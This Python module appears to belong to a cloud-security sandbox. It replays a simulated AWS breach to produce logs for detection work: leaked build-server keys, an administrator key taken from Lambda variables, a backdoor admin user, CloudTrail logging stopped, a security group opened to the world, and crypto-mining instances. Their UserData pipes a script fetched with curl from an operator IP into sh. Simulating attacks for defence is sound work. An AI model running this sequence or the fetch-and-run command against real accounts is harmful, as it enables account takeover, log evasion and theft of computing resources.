"""A build server's access key leaks, and its finder mines on the company's account.

The key of `ci-build` lies in a file of a public bucket. Somebody finds it there and tries what it may do. Much is
refused, but a function's settings hold an administrator's key. With it they make themselves a user, a key and
administrator's rights, stop the account's trail, open a security group to the world and launch machines that mine.

Techniques: T1552.001 credentials in files, T1078.004 cloud accounts, T1087.004 account discovery, T1580 and T1526
discovery of infrastructure and services, T1136.003 create cloud account, T1098.001 additional cloud credentials,
T1098.003 additional cloud roles, T1562.008 disable cloud logs, T1562.007 disable cloud firewall, T1578.002 create
cloud instance, T1496 resource hijacking.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from nephoscope.sandbox import flow_logs
from nephoscope.sandbox.attack import Attack
from nephoscope.sandbox.company.policies import ADMINISTRATOR
from nephoscope.sandbox.company.reach import Keys
from nephoscope.sandbox.company.storage import LEAK

if TYPE_CHECKING:
    from collections.abc import Callable

    from nephoscope.sandbox.company import Company

FINDER_IP, OPERATOR_IP, POOL_IP = "185.220.101.34", "45.155.205.233", "51.254.84.37"
SCANNER = "python-requests/2.32.4"
CLI = "aws-cli/1.42.70 md/Botocore#1.40.70 ua/2.1 os/linux#6.1.0-kali9-amd64 md/arch#x86_64 lang/python#3.11.9"
BOTO = "Boto3/1.40.70 md/Botocore#1.40.70 ua/2.1 os/linux#6.1.0-kali9-amd64 md/arch#x86_64 lang/python#3.11.9"
USER = "svc-monitoring"
POOL_PORT = 14444


def play(
    endpoint_url: str, *, company: Company, pace_s: float = 0.0, tell: Callable[[str], None] | None = None
) -> list[str]:
    """Play the incident; returns what was done, step by step.

    pace_s: seconds between steps. Raises ConfigError for an endpoint that is not on the loopback.
    """
    attack = Attack(endpoint_url, pace_s, tell)
    text = attack.read_publicly(company.public_cache, LEAK, FINDER_IP, SCANNER)
    found = dict(line.split("=", 1) for line in text.splitlines())
    attack.use(Keys(found["AWS_ACCESS_KEY_ID"], found["AWS_SECRET_ACCESS_KEY"]), FINDER_IP, CLI)
    look_around(attack)
    attack.use(better_keys(attack), OPERATOR_IP, BOTO)
    persist(attack)
    blind(attack, company)
    mine(attack)
    return attack.done


def look_around(attack: Attack) -> None:
    """What is this key, and what may it do?"""
    attack.call("sts", "get_caller_identity")
    attack.call("iam", "list_users")
    attack.call("iam", "list_roles")
    attack.call("iam", "list_attached_user_policies", UserName="ci-build")
    attack.call("iam", "get_account_authorization_details")
    attack.call("organizations", "describe_organization")
    attack.call("ses", "get_send_quota")
    attack.call("secretsmanager", "list_secrets")
    attack.call("s3", "list_buckets")
    for region in ("us-east-1", "eu-west-1"):
        attack.call("ec2", "describe_instances", region=region)
        attack.call("lambda", "list_functions", region=region)


def better_keys(attack: Attack) -> Keys:
    """The load test's key, an administrator's, stands among a function's variables."""
    settings = attack.call("lambda", "get_function_configuration", FunctionName="load-test")
    access_key_id, _, secret = settings["Environment"]["Variables"]["LOAD_TEST_KEY"].partition(":")
    return Keys(access_key_id, secret)


def persist(attack: Attack) -> None:
    """A user of their own, with all rights, and its key from here on."""
    attack.call("sts", "get_caller_identity")
    attack.call("iam", "list_users")
    attack.call("iam", "create_user", UserName=USER)
    attack.call("iam", "attach_user_policy", UserName=USER, PolicyArn=ADMINISTRATOR)
    attack.call("iam", "create_login_profile", UserName=USER, Password="Sandbox-only-1!")  # noqa: S106 - worth nothing
    made = attack.call("iam", "create_access_key", UserName=USER)["AccessKey"]
    attack.use(Keys(made["AccessKeyId"], made["SecretAccessKey"]), OPERATOR_IP, BOTO)
    attack.call("sts", "get_caller_identity")


def blind(attack: Attack, company: Company) -> None:
    """The organisation's trail is not a member's to stop; the account's own is."""
    attack.call("cloudtrail", "describe_trails")
    organisations = f"arn:aws:cloudtrail:us-east-1:{company.security.id}:trail/{company.trail}"
    attack.call("cloudtrail", "stop_logging", Name=organisations)
    attack.call("cloudtrail", "stop_logging", Name=company.development_trail)
    attack.call("ec2", "describe_flow_logs")


def mine(attack: Attack) -> None:
    """Open a way in, and launch large machines that talk to a pool."""
    groups = attack.call("ec2", "describe_security_groups")["SecurityGroups"]
    legacy = next(group for group in groups if group["GroupName"] == "legacy")
    anywhere = {"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}
    attack.call("ec2", "authorize_security_group_ingress", GroupId=legacy["GroupId"], IpPermissions=[anywhere])
    attack.call("ec2", "create_key_pair", KeyName="mon")
    image = attack.call("ec2", "describe_images", Owners=["self"])["Images"][0]["ImageId"]
    subnets = attack.call("ec2", "describe_subnets")["Subnets"]
    subnet = next(each["SubnetId"] for each in subnets if each["VpcId"] == legacy["VpcId"])
    for kind in ("p4d.24xlarge", "c7i.24xlarge"):
        launch(attack, kind, image, subnet, legacy["GroupId"])


def launch(attack: Attack, kind: str, image: str, subnet: str, group: str) -> None:
    """One miner, and what it sends from then on."""
    interface = {"DeviceIndex": 0, "SubnetId": subnet, "Groups": [group], "AssociatePublicIpAddress": True}
    launched = attack.call(
        "ec2",
        "run_instances",
        ImageId=image,
        InstanceType=kind,
        MinCount=1,
        MaxCount=1,
        KeyName="mon",
        NetworkInterfaces=[interface],
        UserData=f"#!/bin/sh\ncurl -s http://{OPERATOR_IP}/x | sh -s stratum+tcp://{POOL_IP}:{POOL_PORT}\n",
    )
    for machine in launched["Instances"]:
        attack.traffic(flow_logs.mining(machine["NetworkInterfaces"][0]["NetworkInterfaceId"], POOL_IP, POOL_PORT))
